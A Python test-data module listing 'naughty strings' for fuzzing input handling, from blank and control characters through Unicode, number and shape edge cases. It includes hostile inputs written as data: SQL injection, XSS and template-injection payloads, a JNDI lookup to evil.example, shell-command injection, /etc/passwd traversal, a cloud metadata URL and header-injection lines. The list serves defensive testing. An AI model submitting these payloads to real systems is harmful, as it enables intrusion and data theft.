"""Strings that break what handles text carelessly: one list, for every field of everything that is offered."""

FORGED = '{"event":"FORGED","level":"critical"}'
"""What a log must never hold as a line of its own."""

NAUGHTY: tuple[str, ...] = (
    # Nothing, almost nothing, and words that mean something elsewhere
    *(
        "",
        " ",
        "\t",
        "\u00a0",
        "null",
        "undefined",
        "NaN",
        "true",
        "None",
        "__proto__",
        "constructor",
        "[object Object]",
    ),
    # Control characters, and line ends that forge a line of a log, a header or an event
    *("\x00", "a\x00b", "\x1b[31mred\x1b[0m", "\x07\x08\x7f", "\x80\x9b\x85", "".join(map(chr, range(1, 32)))),
    f"x\n{FORGED}\n",
    f"x\r\n{FORGED}\r\n",
    f"x\u2028{FORGED}\u2029{FORGED}\u0085{FORGED}\x0b{FORGED}\x0c",
    "x\r\nSet-Cookie: stolen=1\r\n\r\n<html>",
    "data: x\n\nevent: done\nid: 999\ndata: {}\n\n",
    # SQL
    *("'", "''", "' OR '1'='1", "'; DROP TABLE users; --", '" OR ""="', "1; SELECT pg_sleep(10)", "%' OR 1=1 --"),
    *(
        "admin'--",
        "1 UNION SELECT password_hash FROM users",
        "\\'; --",
        "%",
        "_",
        "%%%%",
        "x' AND 1=randomblob(1e9) --",
    ),
    # Markup and templates
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "javascript:alert(1)"),
    *("</title><script>1</script>", "<!--", "<![CDATA[", "&lt;&amp;#39;", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>"),
    *("{0.__class__}", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "| id", "; sleep 10", "=1+1", "@SUM(1)"),
    # Format strings
    *("%s%s%s%n", "%x%x%x%d", "{}", "{0}", "{!r}", "%(password)s", "$$", "\\", "\\u0000", "\\x"),
    # Paths and addresses
    *("../../../../etc/passwd", "..\\..\\windows", "/etc/passwd", "%2e%2e%2f", "..;/", "file:///etc/passwd", "~root"),
    *(
        "C:\\con\\con",
        "http://169.254.169.254/latest/meta-data/",
        "//evil.example",
        "a/b/c",
        ".",
        "..",
        "?a=b",
        "#frag",
    ),
    # Unicode
    *("\ud800", "a\udfffb", "\udfff\ud800", "\ufeffx", "\ufffe", "\uffff", "\U0010ffff", "e\u0301" * 50, "ﬀ", "İıſK"),
    *(
        "\u202eevil\u202c",
        "\u2066\u2069",
        "a\u200bb\u200d\u2060",
        "𝓊𝓃𝒾",
        "👩‍👩‍👧‍👦" * 10,
        "ﷺ" * 40,
        "Ω≈ç√∫",
        "田中さん",
        "ثم نفس",
        "ด้้้้้็็็็็",
    ),
    *("z" + "\u0334" * 200, "раураl", "ａｄｍｉｎ", "admin\u200b", "\u1d2c", "\U000e0041\U000e0042"),
    # Numbers
    *(
        "0",
        "-1",
        "1e309",
        "-0.0",
        "9" * 400,
        "0x7fffffff",
        "2147483648",
        "9223372036854775808",
        "1" + "0" * 40,
        "١٢٣",
        "1_000",
    ),
    # Shapes of our own values, almost right
    *("stream-1620847252-a1b2c3d", "stream-1620847252-A1B2C3D4", "stream--a1b2c3d4", "stream-1620847252-a1b2c3d4\n"),
    *(
        "0" * 32,
        "0" * 31 + "g",
        "g" * 32,
        "a@b",
        "a@b.c\n",
        "@",
        "a@@b.example",
        "Bearer x",
        "parshall_x",
        "*",
        "fake-n1",
    ),
    # Long
    *("a" * 300, "a" * 5000, "\n" * 300, "(" * 1000, "[" * 1000, '{"a":' * 200),
)
